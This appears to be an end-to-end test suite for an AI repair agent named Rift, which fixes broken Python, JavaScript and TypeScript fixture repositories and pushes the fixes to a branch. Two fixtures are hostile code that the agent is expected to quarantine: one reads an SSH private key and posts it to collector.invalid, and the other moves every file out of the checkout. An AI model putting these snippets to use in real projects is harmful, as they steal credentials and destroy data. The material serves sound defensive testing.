import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Redis } from 'ioredis';
import type { Results } from '../../domain/results';
import { readState } from '../../services/stack/state';
import { exec } from '../../services/process/spawn';
import { git, makeRemote, type Files, type TestRepository } from '../support/repositories';
import { ownRift, type Ran } from '../support/rift';

const PYPROJECT = `[project]
name = "shop"
version = "1.0"

[tool.pytest.ini_options]
pythonpath = ["."]
`;
const RUFF = `\n[tool.ruff.lint]\nselect = ["E", "F"]\n`;
const TESTS = `from shop.prices import price_of, total


def test_price():
    assert price_of("tea") == 3


def test_total():
    assert total(["tea", "cake"]) == 8
`;
const HEALTHY = `"""Prices."""

TABLE = {"tea": 3, "cake": 5}


def price_of(item):
    return TABLE[item]


def total(items):
    return sum(price_of(item) for item in items)
`;
const shop = (prices: string, more: Files = {}): Files => ({
  'pyproject.toml': PYPROJECT,
  'requirements-dev.txt': 'pytest==8.4.2\n',
  'shop/__init__.py': '',
  'shop/prices.py': prices,
  'tests/test_prices.py': TESTS,
  ...more,
});

const rift = ownRift();
const repositories: TestRepository[] = [];
const remoteOf = (files: Files) => {
  const repository = makeRemote(files);
  repositories.push(repository);
  return repository;
};

beforeAll(async () => {
  const up = await rift.run(['up', '--json']);
  if (up.code !== 0) throw new Error(up.stderr);
}, 400_000);
afterAll(async () => {
  await rift.dispose();
  repositories.forEach((repository) => repository.dispose());
}, 60_000);

const BRANCH = 'TEAM_ADA_AI_Fix';
const heal = (remote: string, ...more: string[]) =>
  rift.run(['heal', remote, '--team', 'Team', '--leader', 'Ada', '--json', ...more]);

function answer({ stdout, stderr, code }: Ran) {
  let end: { run_id: string; verdict: string; branch_name: string; commits: { sha: string }[]; results_json: string };
  try {
    end = JSON.parse(stdout) as typeof end;
  } catch {
    throw new Error(`exit ${code}, no JSON on stdout: ${stdout.slice(0, 500)}\n${stderr.slice(-2000)}`);
  }
  return { ...end, code, results: JSON.parse(readFileSync(end.results_json, 'utf8')) as Results };
}

/** Nothing of a run lies in Redis alone. */
function emptyRedisAgainAndAgain(): { end(): Promise<number> } {
  const redis = new Redis(readState(rift)?.urls.redis ?? '');
  let times = 0;
  const timer = setInterval(() => void redis.flushall().then(() => times++), 300);
  return {
    end: async () => {
      clearInterval(timer);
      await redis.quit();
      return times;
    },
  };
}

type Told = readonly [id: number, event: string];

const told = (lines: string): Told[] =>
  lines
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line) as { id?: number | null; event: string })
    .flatMap(({ id, event }) => (typeof id === 'number' ? [[id, event] as const] : []));

/** What a listener gets that comes when all is over. */
async function lateEvents(runId: string): Promise<Told[]> {
  const headers = { authorization: `Bearer ${readFileSync(join(rift.home, 'token'), 'utf8').trim()}` };
  const answer = await fetch(`${readState(rift)?.urls.api}/runs/${runId}/events`, { headers });
  const events = (await answer.text()).matchAll(/^id: (\d+)\nevent: (\w+)$/gm);
  return [...events].map(([, id, event = '']) => [Number(id), event] as const);
}

test('faults of four types are healed, one uncovering the next, each told where it was submitted', async () => {
  const header = '"""Prices."""\n';
  const broken = HEALTHY.replace(header, `${header}\nimport os\n`).replace('price_of(item):', 'price_of(item)');
  const files = shop(broken, {
    'pyproject.toml': PYPROJECT + RUFF,
    'requirements-dev.txt': 'pytest==8.4.2\nruff==0.14.2\n',
    'shop/text.py':
      '"""Text."""\n\nfrom shop.prices import totl\n\n\ndef receipt(items):\n    if not items:\n    return "nothing"\n    return f"{totl(items)}"\n',
    'tests/test_text.py':
      'from shop.text import receipt\n\n\ndef test_receipt():\n    assert receipt(["tea"]) == "3"\n    assert receipt([]) == "nothing"\n',
  });
  const repository = remoteOf(files);
  const main = git(repository.remote, 'rev-parse', 'main');
  const emptying = emptyRedisAgainAndAgain();
  const ran = await heal(repository.remote);
  expect(await emptying.end()).toBeGreaterThan(3);
  const end = answer(ran);
  expect(end).toMatchObject({ code: 0, verdict: 'green', branch_name: BRANCH });
  expect(end.results.final_status).toBe('PASSED');
  // Whoever listened and whoever comes late got the same, without a gap.
  const heard = told(ran.stderr);
  expect(heard).toContainEqual([expect.any(Number), 'run_complete']);
  expect(await lateEvents(end.run_id)).toEqual(heard);

  const reported = end.results.fixes.map(({ file, bug_type, line_number, status }) => [
    file,
    bug_type,
    line_number,
    status,
  ]);
  expect(reported).toEqual(
    expect.arrayContaining([
      ['shop/prices.py', 'SYNTAX', 8, 'applied'],
      ['shop/prices.py', 'LINTING', 3, 'applied'],
      ['shop/text.py', 'INDENTATION', 8, 'applied'],
      ['shop/text.py', 'IMPORT', 3, 'applied'],
    ]),
  );

  expect(repository.branches()).toEqual([BRANCH, 'main']);
  expect(git(repository.remote, 'rev-parse', 'main')).toBe(main);
  const log = git(repository.remote, 'log', '--format=%H', `main..${BRANCH}`).split('\n');
  expect(log.sort()).toEqual(end.commits.map(({ sha }) => sha).sort());
  for (const sha of log) {
    const message = git(repository.remote, 'log', '-1', '--format=%B', sha);
    expect(message).toMatch(/^\[AI-AGENT\] /);
    expect(message).toContain(`Rift-Run: ${end.run_id}`);
  }
  const changed = git(repository.remote, 'diff', '--name-only', 'main', BRANCH).split('\n');
  expect(changed).toEqual(['shop/prices.py', 'shop/text.py']);
}, 300_000);

const SHELVES = `import { unit } from './units.js';

export function fullShelves(items, size) {
  return unit(Math.ceil(items / size), 'shelf');
}
`;
const UNITS = 'export const unit = (count, name) => `${count} ${name}`;\n';
const SHELF_TESTS = `import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fullShelves } from '../src/shelves.js';

test('no shelf', () => assert.equal(fullShelves(0, 4), '0 shelf'));
test('one shelf', () => assert.equal(fullShelves(4, 4), '1 shelf'));
test('a shelf that is not full', () => assert.equal(fullShelves(7, 4), '1 shelf'));
test('three shelves', () => assert.equal(fullShelves(12, 4), '3 shelf'));
test('narrow shelves', () => assert.equal(fullShelves(9, 2), '4 shelf'));
`;

test('a JavaScript repository is healed of a wrong import and of a wrong result behind it', async () => {
  const repository = remoteOf({
    'package.json': '{ "name": "shelves", "private": true, "type": "module", "scripts": { "test": "node --test" } }\n',
    'src/shelves.js': SHELVES.replace('./units.js', './unit.js'),
    'src/units.js': UNITS,
    'test/shelves.test.js': SHELF_TESTS,
  });
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 0, verdict: 'green' });
  const fixes = end.results.fixes.map(({ file, bug_type, line_number }) => [file, bug_type, line_number]);
  expect(fixes).toEqual(
    expect.arrayContaining([
      ['src/shelves.js', 'IMPORT', 1],
      ['src/shelves.js', 'LOGIC', 4],
    ]),
  );
  expect(git(repository.remote, 'diff', '--name-only', 'main', BRANCH)).toBe('src/shelves.js');
}, 300_000);

const PAGES = `import { clamp } from './numbers';

/** The items of a page, the first one being number 1. */
export function page(items: readonly string[], wanted: number, size: number): readonly string[] {
  const pages = Math.max(1, Math.ceil(items.length / size));
  const number = clamp(wanted, 1, pages);
  return items.slice((number - 1) * size, number * size);
}
`;
const NUMBERS = `export function clamp(value: number, low: number, high: number): number {
  return Math.min(Math.max(value, low), high);
}

export function half(count: number): number {
  return Math.floor(count / 2);
}
`;
const PAGES_TESTS = `import { expect, test } from 'vitest';
import { page } from '../src/pages';
import { half } from '../src/numbers';

const items = ['a', 'b', 'c', 'd', 'e'];
test('the first page', () => expect(page(items, 1, 2)).toEqual(['a', 'b']));
test('the second page', () => expect(page(items, 2, 2)).toEqual(['c', 'd']));
test('a page too far', () => expect(page(items, 9, 2)).toEqual(['e']));
test('half of an odd number', () => expect(half(5)).toBe(2));
test('half of an even number', () => expect(half(6)).toBe(3));
`;

test('a TypeScript repository is healed of two wrong results that vitest shows', async () => {
  const repository = remoteOf({
    'package.json': JSON.stringify({
      ...{ name: 'pages', private: true, type: 'module', scripts: { typecheck: 'tsc -p .', test: 'vitest run' } },
      devDependencies: { typescript: '5.9.3', vitest: '3.2.4' },
    }),
    'tsconfig.json': JSON.stringify({
      compilerOptions: {
        ...{ target: 'ES2022', module: 'ESNext', moduleResolution: 'Bundler', strict: true },
        ...{ noEmit: true, skipLibCheck: true },
      },
      include: ['src', 'test'],
    }),
    'src/pages.ts': PAGES.replace('wanted, 1, pages', 'wanted, pages, 1'),
    'src/numbers.ts': NUMBERS.replace('floor', 'ceil'),
    'test/pages.test.ts': PAGES_TESTS,
  });
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 0, verdict: 'green' });
  const places = end.results.fixes.map(({ file, line_number }) => `${file}:${line_number}`);
  expect([...new Set(places)].sort()).toEqual(['src/numbers.ts:6', 'src/pages.ts:6']);
  expect(git(repository.remote, 'diff', '--name-only', 'main', BRANCH)).toBe('src/numbers.ts\nsrc/pages.ts');
}, 300_000);

test('a green repository ends green, with nothing pushed', async () => {
  const repository = remoteOf(shop(HEALTHY));
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 0, verdict: 'green', commits: [] });
  expect(repository.branches()).toEqual(['main']);
}, 120_000);

test('tests that contradict each other end red with what was tried, and no test is touched', async () => {
  const opposite = `${TESTS}\n\ndef test_other_price():\n    assert price_of("tea") == 4\n`;
  const repository = remoteOf(shop(HEALTHY, { 'tests/test_prices.py': opposite }));
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 1, verdict: 'red', results: { final_status: 'FAILED' } });
  expect(end.results.reason).toMatchObject({ code: 'STILL_FAILING' });
  if (repository.branches().includes(BRANCH)) {
    expect(git(repository.remote, 'diff', '--name-only', 'main', BRANCH)).not.toContain('tests/');
  }
}, 300_000);

test('what can be healed is delivered although something else stays red', async () => {
  const opposite = `${TESTS}\n\ndef test_other_price():\n    assert price_of("tea") == 4\n`;
  const files = shop(HEALTHY, { 'tests/test_prices.py': opposite, 'shop/extra.py': 'def f(a, b)\n    return a\n' });
  const repository = remoteOf(files);
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 1, verdict: 'red' });
  expect(end.results.fixes).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ file: 'shop/extra.py', bug_type: 'SYNTAX', line_number: 1, status: 'applied' }),
    ]),
  );
  expect(git(repository.remote, 'show', `${BRANCH}:shop/extra.py`)).toContain('def f(a, b):');
}, 300_000);

test('a failure that no fix was made for, and that is gone with the fix of another, is applied with its commit', async () => {
  const swallowed = `"""Prices."""

TABLE = {"tea": 3, "cake": 5}


def price_of(item):
    try:
        return TABEL[item]
    except Exception:
        return 0


def total(items):
    try:
        return sum(TBLE[item] for item in items)
    except Exception:
        return 0
`;
  const both = `from shop.prices import price_of, total


def test_prices():
    assert (price_of("tea"), total(["tea", "cake"])) == (3, 8)
`;
  const more = {
    'pyproject.toml': PYPROJECT + RUFF,
    'requirements-dev.txt': 'pytest==8.4.2\nruff==0.14.2\n',
    'tests/test_prices.py': both,
  };
  const end = answer(await heal(remoteOf(shop(swallowed, more)).remote));
  expect(end).toMatchObject({ code: 0, verdict: 'green' });
  const rows = end.results.fixes.map(({ file, bug_type, line_number, status, commit_sha }) => [
    ...[file, bug_type, line_number, status],
    end.commits.some(({ sha }) => sha === commit_sha),
  ]);
  expect(rows.sort()).toEqual([
    ['shop/prices.py', 'LINTING', 15, 'applied', true],
    ['shop/prices.py', 'LINTING', 8, 'applied', true],
    ['shop/prices.py', 'LOGIC', 8, 'applied', true],
  ]);
  const logic = end.results.fixes.find(({ bug_type }) => bug_type === 'LOGIC');
  expect(logic?.fix_description).toMatch(/^gone with the fix of shop\/prices\.py: /);
  expect(end.results).toMatchObject({ total_failures: 3, total_fixes: 3, uncovered_failures: 0 });
}, 300_000);

test('what one test cannot show for another fault is tried again once that one is healed', async () => {
  const prices = `"""Prices."""


def price_of(count, each):
    return count + each


def total(count, each, fee):
    return price_of(count, each) - fee
`;
  const ofPrice = `from shop.prices import price_of


def test_price():
    assert [price_of(2, 3), price_of(4, 5), price_of(1, 7)] == [6, 20, 7]
`;
  const ofTotal = `from shop.prices import total


def test_total():
    assert [total(2, 3, 1), total(4, 5, 2), total(3, 3, 4)] == [7, 22, 13]
`;
  const repository = remoteOf(shop(prices, { 'tests/test_prices.py': ofPrice, 'tests/test_total.py': ofTotal }));
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 0, verdict: 'green' });
  expect(git(repository.remote, 'show', `${BRANCH}:shop/prices.py`)).toBe(
    prices.replace('count + each', 'count * each').replace(' - fee', ' + fee').trim(),
  );
}, 300_000);

test('an unreadable workflow and a leaked key are healed, and the key is in nothing that Rift keeps', async () => {
  const key = `AKIA${'Q3EGRT7LW2ZK5XBN'}`;
  const config = `import os\n\n\ndef store_key(env=os.environ):\n    return env.get("STORE_KEY", "${key}")\n`;
  const files = shop(HEALTHY, {
    '.github/workflows/ci.yml':
      'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n     - run: python -m pytest\n',
    'shop/config.py': config,
  });
  const repository = remoteOf(files);
  const ran = await heal(repository.remote);
  const end = answer(ran);
  expect(end).toMatchObject({ code: 0, verdict: 'green' });
  const rows = end.results.extended_fixes.map(({ file, bug_type, line_number, status }) => [
    ...[file, bug_type, line_number, status],
  ]);
  expect(rows.sort()).toEqual([
    ['.github/workflows/ci.yml', 'PIPELINE_CONFIG', 7, 'applied'],
    ['shop/config.py', 'SECRET_LEAK', 5, 'applied'],
  ]);
  expect(end.results.fixes).toEqual([]);
  expect(git(repository.remote, 'show', `${BRANCH}:shop/config.py`)).toBe(
    config.replace(`env.get("STORE_KEY", "${key}")`, 'env["STORE_KEY"]').trim(),
  );
  expect(git(repository.remote, 'show', `${BRANCH}:.env.example`)).toBe('STORE_KEY=');
  expect(git(repository.remote, 'log', '--format=%B', `main..${BRANCH}`)).not.toContain(key);
  expect(ran.stdout + ran.stderr).not.toContain(key);
  const kept = await exec(['grep', '--recursive', '--files-with-matches', '--text', key, rift.home], {
    env: process.env,
  });
  expect([kept.code, kept.stdout.toString()]).toEqual([1, '']);
}, 300_000);

test('nothing to judge by is no evidence, and each check that was looked for is named', async () => {
  const repository = remoteOf({ 'README.md': '# Nothing here yet\n', 'shop/prices.py': HEALTHY });
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 2, verdict: 'no_evidence', commits: [] });
  expect(end.results.checks_not_run.length).toBeGreaterThan(0);
  expect(repository.branches()).toEqual(['main']);
}, 120_000);

test('code that reads credentials and sends them away is quarantined before anything runs', async () => {
  const thief = `import pathlib
import urllib.request


def test_environment():
    key = (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()
    urllib.request.urlopen("http://collector.invalid/", data=key)
`;
  const repository = remoteOf(shop(HEALTHY.replace('(item):', '(item)'), { 'tests/test_env.py': thief }));
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 3, verdict: 'quarantined', results: { final_status: 'QUARANTINED' } });
  expect(end.results.reason).toMatchObject({ code: 'MALICIOUS_CODE', file: 'tests/test_env.py', line: 6 });
  expect(repository.branches()).toEqual(['main']);
}, 120_000);

test('code whose attack shows only in the sandbox is quarantined by what was seen there', async () => {
  const mover = `import pathlib
import shutil
import tempfile


def test_layout():
    root = pathlib.Path(__file__).parents[1]
    for path in [path for path in root.rglob("*.*") if path.is_file()]:
        shutil.move(path, tempfile.mkdtemp())
`;
  const repository = remoteOf(shop(HEALTHY, { 'tests/test_layout.py': mover }));
  const end = answer(await heal(repository.remote));
  expect(end).toMatchObject({ code: 3, verdict: 'quarantined', results: { final_status: 'QUARANTINED' } });
  expect(end.results.reason?.message).toMatch(/removed \d of \d files of its checkout/);
  expect(repository.branches()).toEqual(['main']);
}, 120_000);

test('a repository that is not there, and a branch that is not ours, are told apart from failing code', async () => {
  const gone = answer(await heal(join(rift.home, 'no-such-repository')));
  expect(gone).toMatchObject({ code: 65, verdict: 'error', results: { reason: { code: 'CLONE_FAILED' } } });

  const repository = remoteOf(shop(HEALTHY));
  git(repository.remote, 'branch', BRANCH, 'main');
  const taken = answer(await heal(repository.remote));
  expect(taken).toMatchObject({ code: 65, verdict: 'error', results: { reason: { code: 'BRANCH_TAKEN' } } });
}, 120_000);

test('without a push the remote stays as it is and the patch is in the output folder', async () => {
  const repository = remoteOf(shop(HEALTHY.replace('def total(items):', 'def total(items)')));
  const end = answer(await heal(repository.remote, '--no-push'));
  expect(end).toMatchObject({ code: 0, verdict: 'green' });
  expect(repository.branches()).toEqual(['main']);
  const patch = join(end.results_json, '..', 'fixes.patch');
  expect(existsSync(patch)).toBe(true);
  expect(readFileSync(patch, 'utf8')).toContain('+def total(items):');
}, 200_000);

test('a second run continues the branch of the first', async () => {
  const repository = remoteOf(shop(HEALTHY.replace('def total(items):', 'def total(items)')));
  expect(answer(await heal(repository.remote))).toMatchObject({ code: 0, verdict: 'green' });
  const tip = git(repository.remote, 'rev-parse', BRANCH);
  const again = answer(await heal(repository.remote));
  expect(again).toMatchObject({ code: 0, verdict: 'green', commits: [] });
  expect(git(repository.remote, 'rev-parse', BRANCH)).toBe(tip);
}, 300_000);
